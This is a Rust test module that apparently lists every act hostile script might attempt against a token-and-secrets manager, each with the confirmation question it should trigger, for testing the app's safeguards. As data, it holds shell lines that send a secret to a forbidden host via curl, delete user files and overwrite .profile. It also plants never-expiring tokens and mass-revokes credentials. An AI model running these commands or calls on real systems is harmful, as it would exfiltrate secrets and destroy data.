//! What hostile script tries, and the question that each act raises.

use serde_json::{Value, json};

use super::prey::Prey;

pub const REACH: &str = "Connect to this server";
pub const RUN: &str = "Run this program";
pub const REPLACE: &str = "Replace this file";
pub const SAVE: &str = "Save this file";
pub const OPEN: &str = "Open this file";
pub const REVOKE: &str = "Revoke this token";

/// The handle of the value that waits.
pub const VALUE: u32 = 2;

/// What hostile script does: the command, its arguments, and what the person is asked.
pub struct Act {
    pub command: &'static str,
    pub arguments: Value,
    pub asked: String,
}

fn act(command: &'static str, asked: &str, arguments: Value) -> Act {
    Act { command, arguments, asked: asked.to_owned() }
}

/// What would make a mistake costlier without anybody having noticed.
fn settings() -> [Act; 4] {
    let off = |asked, name| {
        act("settings_change", asked, json!({"changes": [{"name": name, "value": 0}]}))
    };
    [
        off("Revoke without a countdown", "countdown"),
        off("Leave copied values", "clearClipboard"),
        act("settings_open_place", "Show this file", json!({"what": "data"})),
        act("settings_erase", "Erase all app data", json!({})),
    ]
}

impl Prey {
    /// All that hostile script tries, in an order in which nothing is in the way of what comes later.
    pub async fn acts(&self) -> Vec<Act> {
        let mut acts = self.acts_on_the_value();
        acts.extend(self.acts_on_files());
        acts.extend(self.acts_on_servers());
        acts.extend(self.acts_on_tokens().await);
        acts.extend(self.acts_on_the_rotation().await);
        acts.extend(self.scans());
        acts.extend(settings());
        acts
    }

    fn acts_on_the_value(&self) -> Vec<Act> {
        let home = self.world.desktop.home().display();
        let programs = [
            format!("{home}/steal"),
            format!("sh -c 'cat > {home}/stolen'"),
            format!("tee {home}/stolen"),
            format!("env -i tee {home}/stolen"),
            format!("cp /dev/stdin {home}/stolen"),
            format!("dd of={home}/precious"),
            format!("python3 -c 'open(\"{home}/stolen\", \"w\")'"),
            format!("curl --data-binary @- {}", self.forbidden.address),
            format!("/usr/bin/env sh -c 'rm {home}/precious'"),
        ];
        let send = |line| act("secrets_send", RUN, json!({"handle": VALUE, "line": line}));
        let mut acts: Vec<_> = programs.into_iter().map(send).collect();
        let value = json!({"handle": VALUE});
        acts.extend([
            act("secrets_reveal", "Show the value", value.clone()),
            act("secrets_reveal", "Show the value", value.clone()),
            act("secrets_copy", "Copy the value", value),
            act("secrets_close", "Close without", json!({"handle": VALUE, "anyway": true})),
        ]);
        acts
    }

    async fn acts_on_the_rotation(&self) -> Vec<Act> {
        let rotation = &self.call("rotations_list", json!({})).await[0];
        let (id, place) = (&rotation["id"], &rotation["places"][0]["id"]);
        let deliver = json!({"id": id, "handle": VALUE, "places": [place]});
        let key = json!({"connection": 1, "id": self.world.id_of("gitlab-ci")});
        let request = json!({"key": key, "name": "planted", "expiry": {"kind": "never"},
            "leftOut": [], "byHand": [], "quietHours": 0, "longestJobHours": 0});
        vec![
            act("rotations_begin", "Create this replacement", json!({"request": request})),
            act("rotations_deliver", "Deliver to these places", deliver),
            act("rotations_replace_own", "Create a token and sign in with it", json!({"key": key})),
            act("rotations_mark_done", "Mark this place", json!({"id": id, "place": place})),
            act("rotations_end", "End this rotation", json!({"id": id})),
        ]
    }

    fn scans(&self) -> [Act; 5] {
        let home = self.world.desktop.home();
        let incident = "Open an incident for this token";
        [
            act("scans_folder", "Scan this folder", json!({"path": home})),
            act("scans_usual_places", "Scan common places", json!({})),
            act("scans_pasted", "Paste a text to search", json!({})),
            act("scans_belongs", "Does the value belong", json!({"fingerprint": "", "place": 0})),
            act("scans_incident", incident, json!({"fingerprint": ""})),
        ]
    }

    fn acts_on_files(&self) -> Vec<Act> {
        let home = self.world.desktop.home().display();
        let mut acts = vec![act("window_open_guide", "Open the guide", json!({}))];
        for (file, asked) in [("precious", REPLACE), ("steal", REPLACE), (".profile", SAVE)] {
            let path = format!("{home}/{file}");
            acts.push(act("secrets_save", asked, json!({"handle": VALUE, "path": path})));
            for format in ["csv", "html", "json"] {
                let arguments = json!({"format": format, "path": path});
                acts.push(act("audit_save_report", asked, arguments));
            }
            let arguments = json!({"text": "", "only": null, "source": "app", "path": path});
            acts.push(act("journal_export", asked, arguments));
            let id = json!({"connection": 1, "number": 1});
            let arguments = json!({"id": id, "path": path});
            acts.push(act("incidents_save_record", asked, arguments));
            acts.push(act("scans_save_report", asked, json!({"path": path})));
            let arguments = json!({"connection": 1, "path": path});
            acts.push(act("audit_save_policy", asked, arguments));
        }
        let path = format!("{home}/policy.toml");
        acts.push(act("audit_load_policy", OPEN, json!({"connection": 1, "path": path})));
        acts
    }

    fn acts_on_servers(&self) -> Vec<Act> {
        let (other, own) = (&self.forbidden.address, &self.world.sandbox.ready().base_url);
        let connect = |address: &str, credential: &Value| {
            let request =
                json!({"address": address, "credential": credential, "organizationId": null});
            act("connections_connect", REACH, json!({"request": request}))
        };
        let mut acts = Vec::new();
        for address in [other, own] {
            for way in [
                json!({"kind": "apiToken"}),
                json!({"kind": "password", "email": "a@b.example"}),
                json!({"kind": "cookie"}),
            ] {
                acts.push(connect(address, &way));
            }
        }
        acts.push(connect("", &json!({"kind": "cli", "place": "globalFile"})));
        let arguments = json!({"address": other, "organizationId": null});
        acts.push(act("connections_sign_in_in_window", REACH, arguments));
        acts
    }

    fn acts_on_found(&self, id: &Value) -> Vec<Act> {
        let key = json!({"connection": 1, "id": self.world.id_of("contractor-import")});
        let acts_on_found = [
            ("incidents_choose", "Is it this token", json!({"id": id, "key": key})),
            ("incidents_copy_message", "Copy the message", json!({"id": id})),
            ("incidents_forget", "Forget the value", json!({"id": id})),
            ("incidents_found", "Paste what you found", json!({})),
            ("incidents_test", "Test the value", json!({"id": id, "connection": 1})),
            ("incidents_prove", "Test the value", json!({"id": id})),
            ("incidents_close", "Close the incident", json!({"id": id})),
        ];
        acts_on_found.map(|(command, asked, arguments)| act(command, asked, arguments)).into()
    }

    async fn acts_on_tokens(&self) -> Vec<Act> {
        let mut acts = Vec::new();
        for name in ["contractor-import", "Mira's laptop", "fresh"] {
            acts.push(act("tokens_revoke", REVOKE, self.revoke(name).await));
            let key = json!({"connection": 1, "id": self.world.id_of(name)});
            acts.push(act("tokens_hold_revoke", REVOKE, json!({"key": key})));
        }
        let notes = json!({"place": "", "note": ""});
        let request = json!({"connection": 1, "name": "planted", "expiry": {"kind": "never"},
            "scopes": [], "projectId": null, "notes": notes});
        acts.push(act("tokens_create", "Create this token", json!({"request": request})));
        let keys = json!([{"connection": 1, "id": self.world.id_of("old-jenkins")}]);
        let request = json!({"keys": keys, "kind": "keep", "until": {"kind": "days", "days": 30},
            "reason": "mine"});
        acts.push(act("decisions_make", "Keep these tokens", json!({"request": request})));
        let unresolved = json!({"id": {"connection": 1, "attempt": 1}});
        acts.push(act("journal_keep_unresolved", "Keep this token", unresolved));
        let id = json!({"connection": 1, "number": 1});
        acts.extend(self.acts_on_found(&id));
        let mut revoke = self.revoke("contractor-import").await;
        let request = revoke["request"].take();
        let arguments = json!({"id": id, "key": request["key"], "seen": request["seen"]});
        acts.push(act("incidents_revoke", REVOKE, arguments));
        let arguments = json!({"plan": self.plan, "typed": "49"});
        acts.push(act("bulk_revokes_run", "Revoke 49 tokens", arguments));
        let arguments = json!({"id": 1, "anyway": true});
        acts.push(act("connections_disconnect", "Disconnect", arguments));
        acts
    }
}
